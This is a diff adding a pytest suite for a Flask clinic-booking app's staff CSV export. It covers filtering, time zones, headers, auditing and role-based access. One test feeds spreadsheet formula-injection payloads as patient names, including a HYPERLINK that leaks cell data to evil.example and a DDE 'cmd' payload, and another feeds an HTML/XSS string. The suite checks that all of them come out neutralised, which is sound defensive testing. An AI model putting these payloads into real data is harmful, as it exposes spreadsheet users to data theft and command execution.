@@ -1,0 +1,324 @@
+"""CSV export of the queue's filtered list: every matching row (not one page), correct values
+in clinic time, cells a spreadsheet cannot run as formulas, an audit row, coordinators only."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from datetime import UTC, datetime, timedelta
+from typing import Any
+from zoneinfo import ZoneInfo
+
+import pytest
+from flask import Flask
+from flask.testing import FlaskClient
+from sqlalchemy import select
+
+from booking.audit.models import AuditEvent
+from booking.dashboard.export import COLUMNS
+from booking.extensions import db
+from booking.patients.models import ConsultationRequest
+from booking.timeutil import clinic_today
+from tests.factories import login, make_location, make_request, make_staff
+
+BERLIN = ZoneInfo("Europe/Berlin")
+CSRF_VALUE = re.compile(r'csrf_token"[^>]*value="([^"]+)"')
+STAFF_IP = "198.51.100.23"
+
+
+@pytest.fixture
+def coordinator(app: Flask) -> dict[str, Any]:
+    with app.app_context():
+        user = make_staff("coordinator", "coord@example.com")
+        return {"id": user.id, "email": user.email}
+
+
+@pytest.fixture
+def staff_client(app: Flask, coordinator: dict[str, Any]) -> FlaskClient:
+    client = app.test_client()
+    client.environ_base["REMOTE_ADDR"] = STAFF_IP
+    assert login(client, coordinator["email"]).status_code == 302
+    return client
+
+
+def new_request(app: Flask, **overrides: Any) -> str:
+    with app.app_context():
+        return make_request(**overrides).reference
+
+
+def set_created(app: Flask, created: dict[str, datetime]) -> None:
+    with app.app_context():
+        for reference, at in created.items():
+            row = db.session.scalars(
+                select(ConsultationRequest).where(ConsultationRequest.reference == reference)
+            ).one()
+            row.created_at = at
+        db.session.commit()
+
+
+def act(client: FlaskClient, reference: str, action: str, **fields: Any) -> None:
+    """Work a request through the record page's real form."""
+    page = client.get(f"/staff/requests/{reference}").get_data(as_text=True)
+    token = CSRF_VALUE.search(page)
+    assert token, "no CSRF token on the record page"
+    prefix = {"confirm": "slot", "cancel": "close", "decline": "close"}.get(action, "action")
+    data = {
+        f"{prefix}-csrf_token": token.group(1),
+        **{f"{prefix}-{k}": v for k, v in fields.items()},
+    }
+    response = client.post(f"/staff/requests/{reference}/{action}", data=data)
+    assert response.status_code == 302, response.get_data(as_text=True)[:500]
+
+
+def export(client: FlaskClient, **args: Any) -> list[dict[str, str]]:
+    """GET the export and parse it as a spreadsheet would read the file: rows as dicts."""
+    response = client.get("/staff/export.csv", query_string=args)
+    assert response.status_code == 200
+    assert response.mimetype == "text/csv"
+    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))
+    assert rows, "an empty file, not even a header"
+    assert rows[0] == COLUMNS
+    assert all(len(row) == len(COLUMNS) for row in rows)
+    return [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]]
+
+
+def exported_audit(app: Flask) -> list[AuditEvent]:
+    with app.app_context():
+        rows = db.session.scalars(
+            select(AuditEvent)
+            .where(AuditEvent.action == "requests_exported")
+            .order_by(AuditEvent.id)
+        ).all()
+        db.session.expunge_all()
+        return list(rows)
+
+
+# --- which rows -----------------------------------------------------------------------------
+
+
+def test_export_has_every_row_of_the_filtered_list_not_just_one_page(
+    app: Flask, staff_client: FlaskClient
+) -> None:
+    waiting = [new_request(app, email=f"p{n}@example.com") for n in range(27)]
+    urgent = [
+        new_request(app, email=f"u{n}@example.com", red_flags={"bladder_bowel"}) for n in range(2)
+    ]
+    declined = new_request(app, email="d@example.com")
+    start = datetime(2026, 3, 1, 8, tzinfo=UTC)
+    set_created(app, {ref: start + timedelta(hours=n) for n, ref in enumerate(waiting + urgent)})
+    act(staff_client, declined, "decline", message="")
+
+    # The queue shows 25 of the 29 waiting requests; the export has all 29, in queue order.
+    rows = export(staff_client)
+    assert [r["reference"] for r in rows] == urgent + waiting
+    assert {r["status"] for r in rows} == {"requested"}
+
+    assert [r["reference"] for r in export(staff_client, triage="urgent")] == urgent
+    assert len(export(staff_client, status="all")) == 30
+    assert [r["reference"] for r in export(staff_client, status="declined")] == [declined]
+    # A page number in the URL does not cut the export to that page.
+    assert len(export(staff_client, page=2)) == 29
+    assert [r["reference"] for r in export(staff_client, q="p13@example.com")] == [waiting[13]]
+
+
+def test_the_queue_links_to_the_export_of_its_current_filters(
+    app: Flask, staff_client: FlaskClient
+) -> None:
+    new_request(app)
+    page = staff_client.get("/staff/?status=all&triage=urgent&q=erika&page=1").get_data(
+        as_text=True
+    )
+    link = re.search(r'href="(/staff/export\.csv[^"]*)"', page)
+    assert link
+    url = link.group(1).replace("&amp;", "&")
+    assert "status=all" in url and "triage=urgent" in url and "q=erika" in url
+    assert "page=" not in url
+
+
+def test_export_filters_by_the_clinic_day(app: Flask, staff_client: FlaskClient) -> None:
+    late = new_request(app, email="late@example.com")
+    next_day = new_request(app, email="next@example.com")
+    set_created(
+        app,
+        {
+            late: datetime(2026, 3, 10, 23, 30, tzinfo=BERLIN),  # 22:30 UTC
+            next_day: datetime(2026, 3, 11, 0, 30, tzinfo=BERLIN),  # still the 10th in UTC
+        },
+    )
+    rows = export(staff_client, **{"from": "2026-03-10", "to": "2026-03-10"})
+    assert [r["reference"] for r in rows] == [late]
+    assert rows[0]["received"] == "2026-03-10T23:30+01:00"
+
+
+# --- the values -----------------------------------------------------------------------------
+
+
+def test_export_values_are_correct_in_clinic_time(app: Flask, staff_client: FlaskClient) -> None:
+    with app.app_context():
+        weber = make_staff("specialist", "weber@example.com", full_name="Dr. Weber").id
+        location = make_location("Praxis Mitte", "Friedrichstr. 1, Berlin").id
+    winter = new_request(
+        app,
+        full_name="Erika Mustermann",
+        email="erika@example.com",
+        diagnoses=["spinal_stenosis", "herniated_disc"],
+        red_flags={"saddle_numbness", "bladder_bowel"},
+    )
+    summer = new_request(
+        app,
+        full_name="Max Muster",
+        email="max@example.com",
+        date_of_birth=datetime(2001, 12, 24).date(),
+        diagnoses=[],
+        odi_answers={},
+    )
+    cancelled = new_request(app, full_name="Lena Storniert", email="lena@example.com")
+    set_created(
+        app,
+        {
+            winter: datetime(2026, 3, 10, 23, 30, tzinfo=BERLIN),
+            summer: datetime(2026, 7, 1, 1, 30, tzinfo=BERLIN),  # 30 June in UTC
+            cancelled: datetime(2026, 8, 1, 12, 0, tzinfo=UTC),
+        },
+    )
+    slot = {"specialist": weber, "location": location, "start": "10:00", "duration": 45}
+    act(staff_client, winter, "confirm", day="2026-12-03", message="", **slot)
+    act(staff_client, cancelled, "confirm", day="2026-12-04", message="", **slot)
+    act(staff_client, cancelled, "cancel", message="")
+
+    rows = {r["reference"]: r for r in export(staff_client, status="all")}
+    assert rows[winter] == {
+        "reference": winter,
+        "status": "confirmed",
+        "triage": "urgent",
+        "received": "2026-03-10T23:30+01:00",
+        "patient": "Erika Mustermann",
+        "date_of_birth": "1970-05-17",
+        "email": "erika@example.com",
+        "phone": "'+4930901820",  # text, not a number or a formula
+        "diagnoses": "Spinal stenosis, Herniated (slipped) disc",
+        "odi_percent": "50.0",  # 2 + 3 of 10 possible points
+        "odi_band": "severe",
+        "red_flags": "bladder_bowel, saddle_numbness",
+        "specialist": "Dr. Weber",
+        "appointment": "2026-12-03T10:00+01:00",  # 09:00 UTC
+        "location": "Praxis Mitte",
+    }
+    assert rows[summer] == {
+        "reference": summer,
+        "status": "requested",
+        "triage": "routine",
+        "received": "2026-07-01T01:30+02:00",  # the clinic's summer time
+        "patient": "Max Muster",
+        "date_of_birth": "2001-12-24",
+        "email": "max@example.com",
+        "phone": "'+4930901820",
+        "diagnoses": "",
+        "odi_percent": "",
+        "odi_band": "",
+        "red_flags": "",
+        "specialist": "",
+        "appointment": "",
+        "location": "",
+    }
+    # A cancelled appointment is no appointment.
+    assert rows[cancelled]["status"] == "cancelled"
+    assert rows[cancelled]["received"] == "2026-08-01T14:00+02:00"
+    assert (rows[cancelled]["appointment"], rows[cancelled]["location"]) == ("", "")
+
+
+def test_export_response_headers(app: Flask, staff_client: FlaskClient) -> None:
+    new_request(app)
+    response = staff_client.get("/staff/export.csv")
+    assert response.status_code == 200
+    assert response.headers["Content-Type"].startswith("text/csv")
+    with app.app_context():
+        today = clinic_today().isoformat()
+    assert response.headers["Content-Disposition"] == f'attachment; filename="requests-{today}.csv"'
+    assert "no-store" in response.headers["Cache-Control"]
+    assert response.headers["X-Content-Type-Options"] == "nosniff"
+
+
+@pytest.mark.parametrize(
+    ("name", "cell"),
+    [
+        ('=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+         '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'),
+        ("+SUM(1,2)", "'+SUM(1,2)"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("<script>alert(1)</script>", "<script>alert(1)</script>"),
+        ("Anna-Lena O'Brien", "Anna-Lena O'Brien"),
+        ('Erika "Eri" Mustermann, Jr.', 'Erika "Eri" Mustermann, Jr.'),
+    ],
+    ids=["hyperlink", "plus", "dde", "at", "tab", "carriage-return", "html", "plain", "quoted"],
+)  # fmt: skip
+def test_cells_a_spreadsheet_could_run_are_neutralised(
+    app: Flask, staff_client: FlaskClient, name: str, cell: str
+) -> None:
+    reference = new_request(app, full_name=name, email="=cmd@example.com", phone="+4930901820")
+    (row,) = export(staff_client)
+    assert row["reference"] == reference
+    assert row["patient"] == cell
+    assert row["email"] == "'=cmd@example.com"
+    assert row["phone"] == "'+4930901820"
+    # Every cell of the file, whatever its column, is safe to open.
+    for value in row.values():
+        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+
+
+def test_an_html_name_is_exported_as_plain_text(app: Flask, staff_client: FlaskClient) -> None:
+    new_request(app, full_name="<b>Bold</b> & <img src=x onerror=alert(1)>")
+    body = staff_client.get("/staff/export.csv").get_data(as_text=True)
+    assert "<b>Bold</b> & <img src=x onerror=alert(1)>" in body
+    assert "&lt;" not in body and "&amp;" not in body
+
+
+# --- audit and access -----------------------------------------------------------------------
+
+
+def test_export_is_audited_with_its_filters_and_row_count(
+    app: Flask, staff_client: FlaskClient, coordinator: dict[str, Any]
+) -> None:
+    for n in range(3):
+        new_request(app, email=f"r{n}@example.com", red_flags={"cancer_history"})
+    new_request(app, email="routine@example.com")
+
+    assert len(export(staff_client, status="all", triage="urgent", q="example", page=3)) == 3
+    assert len(export(staff_client)) == 4
+
+    first, second = exported_audit(app)
+    assert first.details == {
+        "filters": {"status": "all", "triage": "urgent", "q": "example"},
+        "rows": 3,
+    }
+    assert second.details == {"filters": {"status": "requested"}, "rows": 4}
+    for row in (first, second):
+        assert row.actor_id == coordinator["id"]
+        assert row.actor_email == coordinator["email"]
+        assert row.ip_address == STAFF_IP
+
+
+def test_admins_may_export_specialists_may_not(app: Flask, client: FlaskClient) -> None:
+    with app.app_context():
+        specialist = make_staff("specialist", "spec@example.com").email
+        admin = make_staff("admin", "admin@example.com").email
+    new_request(app)
+
+    response = client.get("/staff/export.csv")
+    assert response.status_code == 302
+    assert "/staff/login" in response.headers["Location"]
+
+    assert login(client, specialist).status_code == 302
+    response = client.get("/staff/export.csv?status=all")
+    assert response.status_code == 403
+    assert "erika" not in response.get_data(as_text=True).lower()
+    assert "/staff/export.csv" not in client.get("/staff/").get_data(as_text=True)
+    assert exported_audit(app) == []
+
+    other = app.test_client()
+    assert login(other, admin).status_code == 302
+    assert len(export(other, status="all")) == 1
